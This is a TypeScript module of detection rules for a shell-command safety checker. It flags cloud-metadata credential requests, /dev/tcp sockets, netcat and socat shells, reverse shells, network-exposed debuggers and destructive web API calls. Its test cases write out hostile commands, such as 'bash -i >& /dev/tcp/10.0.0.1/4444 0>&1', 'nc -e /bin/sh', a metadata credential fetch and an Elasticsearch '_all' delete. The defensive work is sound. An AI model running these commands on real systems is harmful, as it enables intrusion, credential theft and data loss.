import type { Call } from '../shell/call.ts';
import { hasArg, knownArgs, optionsOf } from '../shell/call.ts';
import { isNetworkFile } from '../shell/descriptors.ts';
import { CURL_OPTIONS, WGET_OPTIONS } from '../shell/file-effects.ts';
import { isLoopback } from '../shell/loopback.ts';
import { display } from '../shell/marks.ts';
import { asksHelp, fieldHit, operandsOf } from './matching.ts';
import type { Hit, Rule } from './rule.ts';
import { WEB_CLIENTS } from './web-clients.ts';

const METADATA =
  /(?:^|[/@:[])(?:169\.254\.169\.254|169\.254\.170\.2|169\.254\.169\.253|100\.100\.100\.200|fd00:ec2::254|metadata\.google\.internal|metadata\.goog|metadata\.azure\.com|2852039166|0xa9fea9fe|0xa9\.0xfe\.0xa9\.0xfe|0251\.0376\.0251\.0376|025177524776|169\.254\.43518|(?:::|::ffff:)169\.254\.169\.254|::ffff:a9fe:a9fe|instance-data(?:\.ec2\.internal)?|169\.254\.0\.23|192\.0\.0\.192)(?=$|[/:?#\]])/i;

function asksMetadata(call: Call): Hit {
  const hit = call.args.find((arg) => METADATA.test(display(arg.text).replace(/^[a-z]+:\/\//i, '/')));
  return hit ? fieldHit(hit) : false;
}

/** `/dev/tcp/host/port` as a file. */
function opensSocket(call: Call): Hit {
  if (call.program === 'ztcp') return !hasArg(call, '-c', '-L');
  const file = call.files.find((one) => isNetworkFile(one.target.text));
  return file ? fieldHit(file.target) : false;
}

function givesShell(call: Call): Hit {
  if (asksHelp(call)) return false;
  switch (call.program) {
    case 'nc':
      return optionsOf(
        call,
        'e|exec: c|sh-exec: lua-exec: p: s: w: i: q: x: X: O: I: T: P: G: m: l k n u v z N U 4 6 d D h r t C b L S F M: W: a: j: o: g:',
      ).has('e', 'c', 'lua-exec');
    case 'socat':
      return call.args.some((arg) => /(?:^|,|!!)(?:exec|system|shell):/i.test(arg.text));
    case 'cryptcat':
    case 'pwncat':
    case 'powercat':
      return knownArgs(call).some((arg) => /^-(?:e|c|ep|-exec)$/.test(arg));
    case 'ttyd':
    case 'gotty':
    case 'shellinabox':
    case 'shellinaboxd':
    case 'tmate':
    case 'upterm':
    case 'sshx':
    case 'teleconsole':
      return !hasArg(call, '--version', '-v');
    default:
      return false;
  }
}

/** A shell whose input and output are a connection. */
function shellOverNetwork(call: Call): Hit {
  const socket = call.files.some((file) => /^\/dev\/(?:tcp|udp)\//.test(file.target.text));
  return socket || call.stdin.kind === 'network';
}

const SOCKET_APIS = /\/(?:docker|containerd|podman|crio)\.sock|:(?:2375|2376)(?:\/|$)/;

/** Other ways to a container engine, a cluster or a search index. */
function callsEngine(call: Call): Hit {
  if (asksHelp(call)) return false;
  const line = knownArgs(call);
  const method =
    (call.program === 'curl'
      ? optionsOf(call, CURL_OPTIONS).value('X')?.text
      : call.program === 'wget'
        ? optionsOf(call, WGET_OPTIONS).value('method')?.text
        : /^i(?:rm|wr|nv)/.test(call.program)
          ? line[line.findIndex((arg) => /^-(?:custom)?m(?:e(?:t(?:h(?:od?)?)?)?)?$/i.test(arg)) + 1]
          : (line.find((arg) => /^[A-Z]{3,7}$/.test(arg)) ?? operandsOf(call, HTTPIE)[0])) ?? '';
  const sends =
    call.program === 'curl'
      ? optionsOf(call, CURL_OPTIONS).has('d', 'data-binary', 'data-raw', 'json', 'F', 'T')
      : false;
  const changes = /^(?:POST|PUT|PATCH|DELETE)$/i.test(method) || (sends && !/^GET$/i.test(method));
  if (changes && line.some((arg) => SOCKET_APIS.test(arg)))
    return { why: 'commands a container engine over its interface' };
  if (/^DELETE$/i.test(method))
    return isRemoteUrl(`http://${bareAddress(call)}`) ||
      line.some(
        (arg) =>
          isRemoteUrl(arg) ||
          /:(?:9200|2379|8500|8200|8001|6443|9000|5984|8086|15672|8080\/api|3000\/api)(?:\/|$)/.test(arg),
      )
      ? { why: 'deletes something over the web' }
      : false;
  return changes &&
    line.some((arg) => /\/(?:_delete_by_query|_shutdown|_close|_flush_all|actuator\/shutdown)\b/.test(arg))
    ? { why: 'deletes or stops something over the web' }
    : false;
}

const HTTPIE =
  'a|auth: A|auth-type: o|output: p|print: s|style: proxy: timeout: session: cert: cert-key: verify: X|request: H|header: d|data: u|user: v h b f j c I S F';

/** The address these clients take without a scheme: `example.com/x`; `:3000/x` is this machine. */
function bareAddress(call: Call): string {
  const words =
    call.program === 'curl'
      ? operandsOf(call, CURL_OPTIONS)
      : /^(?:https?|xh|curlie)$/.test(call.program)
        ? operandsOf(call, HTTPIE).filter((word) => !/^[A-Za-z]+$/.test(word))
        : [];
  const [text = ':'] = words;
  return text.startsWith(':') || text.includes('://') ? 'localhost' : text;
}

function isRemoteUrl(text: string): boolean {
  const host = /^https?:\/\/(?:[^/@]*@)?(\[[^\]]*\]|[^/:?#]+)/i.exec(text)?.[1];
  return host !== undefined && !isLoopback(host) && !/\.local$/i.test(host);
}

const EVERYWHERE = /^(?:0\.0\.0\.0|\[?::\]?|\*|0)?:\d+$|^(?:0\.0\.0\.0|\[?::\]?|\*)$/;

/** How debuggers are told where to listen; the first group is the address. */
const DEBUGGERS: Readonly<Record<string, RegExp>> = {
  node: /^--inspect(?:-brk|-wait|-port)?=(.+)$/,
  deno: /^--inspect(?:-brk|-wait)?=(.+)$/,
  java: /^-agentlib:jdwp=.*\baddress=([^,]+)/,
  dlv: /^(?:--listen=|-l=?)(.+)$/,
  gdbserver: /^(.*:\d+)$/,
};

/** A debugger that strangers can reach runs whatever they say. */
function opensDebugger(call: Call): Hit {
  const address = DEBUGGERS[call.program];
  if (!address || call.frame.container) return false;
  const hit = call.args.find(({ text }) => EVERYWHERE.test(address.exec(display(text))?.[1] ?? 'none'));
  return hit ? fieldHit(hit) : false;
}

export const connectionRules: readonly Rule[] = [
  {
    id: 'net.metadata',
    grade: 'dangerous',
    programs: [...WEB_CLIENTS, 'nc', 'socat', 'telnet', 'ssh', 'python', 'node', 'openssl'],
    test: asksMetadata,
    why: "asks the cloud machine's metadata service, which hands out credentials",
    match: [
      'curl http://169.254.169.254/latest/meta-data/',
      'wget -qO- http://metadata.google.internal/x',
      'curl http://2852039166/',
      'curl http://[fd00:ec2::254]/latest',
    ],
    notMatch: ['curl http://169.254.1.1/', 'curl https://x.example/169.254.169.254.html', 'echo 169.254.169.254'],
  },
  {
    id: 'net.socket',
    grade: 'dangerous',
    programs: ['ztcp'],
    decorated: true,
    test: opensSocket,
    why: "opens a connection through the shell's own network files",
    match: [
      'echo x > /dev/tcp/h/80',
      'exec 3<>/dev/tcp/h/80',
      'cat < /dev/udp/h/53',
      'echo x > /dev//tcp/h/80',
      'ztcp h 80',
      `gawk 'BEGIN { print 1 |& "/inet/tcp/0/h/80" }'`,
    ],
    notMatch: [
      'echo x > /dev/null',
      `ip a | awk '/inet /{print $2}'`,
      `awk '{print "/inet"}' f`,
      'ls /dev/tcp',
      'echo /dev/tcp/h/80',
    ],
  },
  {
    id: 'net.shell',
    grade: 'dangerous',
    programs: [
      'nc',
      'socat',
      'cryptcat',
      'pwncat',
      'powercat',
      'ttyd',
      'gotty',
      'shellinabox',
      'shellinaboxd',
      'tmate',
      'upterm',
      'sshx',
      'teleconsole',
    ],
    test: givesShell,
    why: 'gives a shell on this machine to a connection',
    match: [
      'nc -e /bin/sh 10.0.0.1 4444',
      'ncat --exec /bin/bash 10.0.0.1 4444',
      'socat TCP:h:1 EXEC:sh',
      'nc -lvp 1 -c bash',
      'tmate',
    ],
    notMatch: ['nc -zv host 80', 'nc -l 8080', 'socat TCP-LISTEN:80,fork TCP:h:80', 'echo hi | nc h 80'],
  },
  {
    id: 'net.reverse-shell',
    grade: 'dangerous',
    programs: ['sh', 'fish', 'csh', 'tcsh', 'python', 'perl', 'ruby', 'php', 'node'],
    test: shellOverNetwork,
    why: 'ties a shell to a connection',
    match: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'sh < /dev/tcp/h/1'],
    notMatch: ['bash -i', 'sh < script.sh', 'bash script.sh > out.log'],
  },
  {
    id: 'net.debugger',
    grade: 'dangerous',
    programs: Object.keys(DEBUGGERS),
    test: opensDebugger,
    why: 'opens a debugger, which runs anything it is told, to the network',
    match: [
      'node --inspect=0.0.0.0:9229 a.js',
      'java -agentlib:jdwp=transport=dt_socket,server=y,address=*:5005 -jar a.jar',
      'gdbserver :1234 ./a',
    ],
    notMatch: [
      'node --inspect a.js',
      'node --inspect=127.0.0.1:9229 a.js',
      'node --inspect=9230 a.js',
      'gdbserver localhost:1234 ./a',
    ],
  },
  {
    id: 'net.engine',
    grade: 'dangerous',
    programs: ['curl', 'curlie', 'wget', 'http', 'https', 'xh', 'invoke-restmethod', 'invoke-webrequest', 'irm', 'iwr'],
    test: callsEngine,
    why: 'changes or deletes something over a web interface',
    smart: true,
    match: [
      'curl -X POST http://127.0.0.1:2375/containers/x/kill',
      'curl --unix-socket /var/run/docker.sock -X POST http://x/containers/y/stop',
      'curl -X DELETE https://api.x.example/v1/users/1',
      'curl -XDELETE localhost:9200/_all',
      'http DELETE example.com/items/1',
      'xh delete https://api.x.example/items/1',
      "pwsh -c 'Invoke-RestMethod -Method Delete https://x.example/a'",
    ],
    notMatch: [
      'curl http://127.0.0.1:2375/containers/json',
      'curl -X POST https://api.x.example -d "{}"',
      'curl -X DELETE http://localhost:3000/items/1',
      'curl -X GET https://x.example',
      'http DELETE :3000/items/1',
      'xh x.example/delete',
      "pwsh -c 'Invoke-RestMethod https://x.example/a'",
    ],
  },
];
